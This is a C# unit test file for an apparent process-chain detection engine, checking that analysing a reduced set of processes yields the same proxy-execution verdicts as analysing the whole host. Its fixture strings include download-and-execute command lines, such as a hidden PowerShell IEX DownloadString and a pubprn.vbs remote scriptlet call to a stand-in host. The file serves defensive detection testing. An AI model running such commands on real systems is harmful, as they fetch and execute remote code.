using TriageConsole.Detection.Baseline;
using TriageConsole.Domain.Detection;
using TriageConsole.Domain.Events;
using TriageConsole.Domain.Processes;

namespace TriageConsole.Detection.Tests.Chains;

/// <summary>Judging what the outlines say is needed must give what judging the whole host gives.</summary>
public sealed class JudgedReachTests
{
    private static readonly string[] _images =
    [
        @"C:\Windows\System32\wscript.exe", @"C:\Windows\System32\rundll32.exe", @"C:\Windows\System32\cmd.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        @"C:\Windows\System32\wbem\WmiPrvSE.exe", @"C:\Windows\System32\svchost.exe", @"C:\Windows\explorer.exe", @"C:\Users\Public\a.exe", @"C:\Program Files\Contoso\worker.exe", @"C:\Windows\System32\calc.exe",
    ];

    private static readonly string[] _lines =
    [
        @"wscript.exe //e:vbscript C:\Users\Public\invoice.txt", @"cmd /c cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:https://x.example/a.sct", "svchost.exe -k netsvcs -s Schedule",
        "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\"", "worker.exe --job 7", @"rundll32.exe C:\Users\Public\a.dll,Run", "x //nologo //e:jscript a.txt",
    ];

    [Fact]
    public void Reach_RandomHosts_JudgesAsTheWholeHost()
    {
        var random = new Random(11);
        int chains = 0, left = 0, all = 0;
        for (var i = 0; i < 300; i++)
        {
            var facts = Host(random, random.Next(5, 80));
            var needed = Seed.Engine.Reach([.. facts.Select(Outline)]).ToHashSet();
            var whole = Seed.Engine.Judge(facts, BaselineMatcher.Empty);
            var part = Seed.Engine.Judge([.. facts.Where(process => needed.Contains(process.Id))], BaselineMatcher.Empty);
            Assert.Equal(whole.Select(Describe), part.Select(Describe));
            chains += whole.Count;
            all += facts.Count;
            left += facts.Count - needed.Count;
        }

        Assert.True(chains > 300, $"Only {chains} chains: nothing was compared.");
        Assert.True(left > all / 20, $"Only {left} of {all} were left out: nothing was gained.");
    }

    [Fact]
    public void Reach_HostWithoutAnyProxyHost_NeedsNothing() =>
        Assert.Empty(Seed.Engine.Reach([Facts(1, _images[8], _lines[4], null, 0), Facts(2, _images[9], null, 1, 1)]));

    [Fact]
    public void Reach_DescendantInAndOutOfTheWindow_IsNeededOnlyWithin()
    {
        // explorer → wscript → worker → worker (in time) → worker (a day later); a brother of wscript.
        List<ProcessFacts> facts =
        [
            Facts(1, _images[6], null, null, 0), Facts(2, _images[0], _lines[0], 1, 10), Facts(3, _images[8], null, 2, 20), Facts(4, _images[8], null, 3, 30), Facts(5, _images[8], null, 4, 90_000),
            Facts(6, _images[8], null, 1, 5),
        ];
        Assert.Equal([1, 2, 3, 4], Seed.Engine.Reach([.. facts.Select(Outline)]));
    }

    [Fact]
    public void Reach_BrokersChild_IsNeededOnlyShortlyAfterAHost()
    {
        List<ProcessFacts> facts =
        [
            Facts(1, _images[4], null, null, 0), Facts(2, _images[0], _lines[0], null, 10), Facts(3, _images[9], null, 1, 15), Facts(4, _images[9], null, 1, 9), Facts(5, _images[9], null, 1, 45),
        ];
        Assert.Equal([1, 2, 3], Seed.Engine.Reach([.. facts.Select(Outline)]));
    }

    private static List<ProcessFacts> Host(Random random, int count)
    {
        var facts = new List<ProcessFacts>();
        for (var id = 1; id <= count; id++)
        {
            // Parents may be missing, later, themselves or in a circle.
            var image = random.Next(4) == 0 ? _images[random.Next(_images.Length)] : _images[random.Next(4, _images.Length)];
            var process = Facts(id, image, random.Next(5) == 0 ? null : _lines[random.Next(_lines.Length)], random.Next(4) == 0 ? null : random.Next(1, count + 3), id * random.Next(1, 200));
            facts.Add(process with
            {
                StartUtc = random.Next(12) == 0 ? null : process.StartUtc,
                OriginalFileName = random.Next(3) == 0 ? (string?[])[null, "-", "wscript.exe", "Cmd.Exe"] is var names ? names[random.Next(4)] : null : process.OriginalFileName,
                ParentImage = random.Next(3) == 0 ? _images[random.Next(_images.Length)] : null,
                ParentCommandLine = random.Next(3) == 0 ? _lines[random.Next(_lines.Length)] : null,
            });
        }

        return facts;
    }

    private static ProcessFacts Facts(long id, string image, string? line, long? parent, int second) => new()
    {
        Id = id,
        Host = "HOST-1",
        Image = image,
        CommandLine = line,
        OriginalFileName = WindowsPath.FileName(image),
        ParentId = parent,
        StartUtc = Seed.Now.AddSeconds(second),
        Witnesses = WitnessKind.Sysmon1,
    };

    // What the store reads for every process, and nothing else.
    private static ProcessFacts Outline(ProcessFacts facts) => new()
    {
        Id = facts.Id,
        Host = facts.Host,
        Image = facts.Image,
        CommandLine = facts.OriginalFileName is { Length: > 1 } ? null : facts.CommandLine,
        OriginalFileName = facts.OriginalFileName,
        Company = facts.Company,
        Description = facts.Description,
        ParentId = facts.ParentId,
        ParentImage = facts.ParentImage,
        StartUtc = facts.StartUtc,
        EndUtc = facts.EndUtc,
        Witnesses = facts.Witnesses,
    };

    private static string Describe(ChainVerdict verdict) =>
        $"{verdict.ProxyProcessId} {verdict.Score} {verdict.Completeness} {verdict.Fingerprint} {verdict.Chain} {string.Join(',', verdict.Members)} {string.Join(',', verdict.Findings.Select(finding => finding.SignalId + finding.ProcessId + finding.Points + finding.Title))}";
}
